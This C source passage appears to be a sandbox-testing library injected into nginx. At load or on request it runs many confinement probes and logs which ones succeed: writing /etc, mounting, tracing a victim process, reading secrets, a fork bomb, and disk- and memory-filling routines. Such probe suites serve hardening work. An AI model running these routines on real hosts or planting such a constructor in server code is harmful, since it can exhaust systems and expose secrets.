static int see_environment(void)
{
    ALL(SECRETS)
        if (getenv(SECRETS[i]))
            return 0;
    return EPERM;
}

/* Memory that is shared by name. */
static int shared_memory(void) { int best = ENOENT; int id = shmget(IPC_KEY, 0, 0); char *map = id < 0 ? (char *) -1 : shmat(id, NULL, 0); TRY(map == (char *) -1 ? -1 : 0); if (map != (char *) -1) map[0] = 'X'; TRY(id < 0 ? -1 : shmctl(id, IPC_RMID, NULL)); return best; }
static int message_queue(void) { int best = ENOENT; int id = msgget(IPC_KEY, 0); TRY(id); TRY(id < 0 ? -1 : msgctl(id, IPC_RMID, NULL)); mqd_t queue = mq_open(QUEUE, O_WRONLY); TRY(queue); TRY(mq_unlink(QUEUE)); return best; }
static int shared_files(void) { int best = ENOENT; TRY(append("/dev/shm/victim")); TRY(unlink("/dev/shm/victim")); TRY(append("/run/victim")); TRY(append("/tmp/victim")); TRY(append("/var/log/nginx/victim")); return best; }
static int other_shared_files(void) { int best = EPERM; open("/dev/shm/attacked", O_CREAT | O_WRONLY, 0644); open("/run/attacked", O_CREAT | O_WRONLY, 0644); open("/tmp/attacked", O_CREAT | O_WRONLY, 0644); open("/var/tmp/attacked", O_CREAT | O_WRONLY, 0644); open("/var/log/nginx/attacked", O_CREAT | O_WRONLY, 0644); open("/var/lib/nginx/attacked", O_CREAT | O_WRONLY, 0644); return best; }

/* What there is of the machine. */
static int fork_without_end(void)
{
    setpgid(0, 0);
    for (int i = 0; i < FORKS; i++) {
        pid_t child = fork();
        if (child < 0) {
            int error = errno;
            signal(SIGTERM, SIG_IGN);
            kill(0, SIGTERM);
            return error;
        }
        if (child == 0) {
            signal(SIGTERM, SIG_DFL);
            alarm(3);
            pause();
            _exit(0);
        }
    }
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    return 0;
}
static int fill_a_file(void)
{
    int best = ENOENT;
    const char *places[] = { "/dev/shm", "/tmp", "/run", "/var/tmp", "/var/log/nginx", "/var/lib/nginx" };
    signal(SIGXFSZ, SIG_IGN);
    ALL(places) {
        const char *path = at(places[i], "filling");
        int fd = open(path, O_CREAT | O_RDWR, 0644);
        TRY(fd < 0 ? -1 : ftruncate(fd, 1L << 40));
        errno = 0;
        int status = fd < 0 ? EACCES : posix_fallocate(fd, 0, FILLED_BYTES);
        errno = status;
        TRY(status == 0 ? 0 : -1);
        close(fd);
        unlink(path);
    }
    return best;
}
static int fill_with_large_files(void)
{
    int best = ENOENT;
    const char *places[] = { "/dev/shm", "/tmp" };
    char path[128];
    ALL(places) {
        int number = 0;
        for (; number < 4; number++) {
            snprintf(path, sizeof(path), "%s/l%d", places[i], number);
            int fd = open(path, O_CREAT | O_RDWR, 0644);
            int status = fd < 0 ? EACCES : posix_fallocate(fd, 0, FILLED_BYTES / 4);
            close(fd);
            if ((errno = status))
                break;
        }
        TRY(number == 4 ? 0 : -1);
        do {
            snprintf(path, sizeof(path), "%s/l%d", places[i], number);
            unlink(path);
        } while (number-- > 0);
    }
    return best;
}
static int fill_with_files(void)
{
    int best = ENOENT;
    const char *places[] = { "/dev/shm", "/tmp" };
    char path[128];
    ALL(places) {
        int number = 0;
        for (; number < FILLED_FILES; number++) {
            snprintf(path, sizeof(path), "%s/f%d", places[i], number);
            if (mknod(path, S_IFREG | 0644, 0) != 0)
                break;
        }
        TRY(number == FILLED_FILES ? 0 : -1);
        while (number-- > 0) {
            snprintf(path, sizeof(path), "%s/f%d", places[i], number);
            unlink(path);
        }
    }
    return best;
}
static int fill_memory(void)
{
    for (int i = 0; i < FILLED_MIB / 16; i++) {
        char *some = mmap(NULL, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
        if (some == MAP_FAILED)
            return errno;
    }
    return 0;
}
static int dump_core(void) { struct rlimit none = {0, 0}; return setrlimit(RLIMIT_CORE, &none) ? errno : 0; }

static const struct { const char *name; int (*run)(void); int exhausts; } ATTACKS[] = {
#define A(name) { #name, name, 0 }
#define E(name) { #name, name, 1 }
    A(write_file), A(create_file), A(unlink_file), A(truncate_file), A(chmod_file), A(chown_file),
    A(touch_file), A(make_directory), A(remove_directory), A(make_symlink), A(set_attribute),
    A(make_pipe), A(rename_file), A(link_file), A(write_pipe), A(write_map), A(write_etc),
    A(write_own_module), A(see_hidden), A(roots_of_others), A(escape_by_chroot),
    A(inherited_descriptors), A(handles), A(mount_tmpfs), A(mount_bind), A(mount_proc),
    A(mount_move), A(mount_shared), A(remount_writable), A(unmount), A(pivot), A(new_mounts),
    A(mount_block), A(unshare_some), A(unshare_user), A(clone_user), A(clone3_user),
    A(enter_namespaces), A(signal_process), A(signal_by_descriptor), A(take_descriptor),
    A(trace_victim), A(trace_me), A(write_memory), A(adjust_victim), A(write_proc_of_victim),
    A(read_secrets_of_victim), A(compare_victim), A(push_terminal), A(load_module),
    A(unload_module), A(load_kernel), A(load_program), A(open_counter), A(handle_faults),
    A(use_keys), A(use_ring), A(read_log), A(restart), A(name_host), A(set_clock), A(swap_on),
    A(account), A(quota), A(use_ports), A(watch_files), A(personality_of_old), A(rights),
    A(raise_rights), A(new_privileges), A(unfiltered), A(old_calls), A(x32_calls),
    A(run_foremost), A(lock_memory), A(raise_limits), A(packet_socket), A(raw_socket),
    A(netlink_socket), A(odd_sockets), A(change_link), A(path_sockets),
    A(path_sockets_elsewhere), A(abstract_socket), A(host_ports), A(far_hosts), A(open_devices),
    A(write_devices), A(make_device), A(write_settings), A(write_net_settings), A(write_sys),
    A(leave_cgroup), A(spare_me), A(read_addresses), A(see_processes), A(see_environment), A(shared_memory), A(message_queue),
    A(shared_files), A(other_shared_files), E(fill_a_file), E(fill_with_large_files), E(fill_with_files), E(fill_memory),
    A(hold_files), A(dump_core), E(fork_without_end),
};

static int run_for_a_moment(int (*attack)(void))
{
    pid_t child = fork();
    if (child < 0)
        return errno;
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        alarm(0);
        _exit(attack() & 0xff);
    }
    int status = 0;
    for (int waited = 0; waited < (EXHAUSTS ? 400 : 100); waited++) {
        if (waitpid(child, &status, WNOHANG) == child)
            return WIFEXITED(status) ? WEXITSTATUS(status) : 1000 + WTERMSIG(status);
        usleep(10000);
    }
    kill(child, SIGKILL);
    waitpid(child, &status, 0);
    return 999;
}

static int report = 2;

static void attack_by_all(void)
{
    static char said[16384];
    size_t length = 0;
    sigset_t ended, before;
    sigemptyset(&ended);
    sigaddset(&ended, SIGCHLD); /* nginx would collect what is waited for here */
    sigprocmask(SIG_BLOCK, &ended, &before);
    for (size_t i = 0; i < LENGTH(ATTACKS); i++) {
        if (ATTACKS[i].exhausts != EXHAUSTS)
            continue;
        int end = run_for_a_moment(ATTACKS[i].run);
        length += snprintf(said + length, sizeof(said) - length, " %s.%d", ATTACKS[i].name, end);
    }
    sigprocmask(SIG_SETMASK, &before, NULL);
    dprintf(report, "nginx: [emerg] user %d attacks:%s\n", geteuid(), said);
}

__attribute__((constructor)) static void attack(void)
{
    if (AT_REQUEST) {
        report = fcntl(2, F_DUPFD_CLOEXEC, 100); /* nginx makes its log of it later */
        hook_requests(attack_by_all);
        return;
    }
    attack_by_all();
    /* nginx ends with it as with a refusal, and the message is told. */
    _exit(1);
}
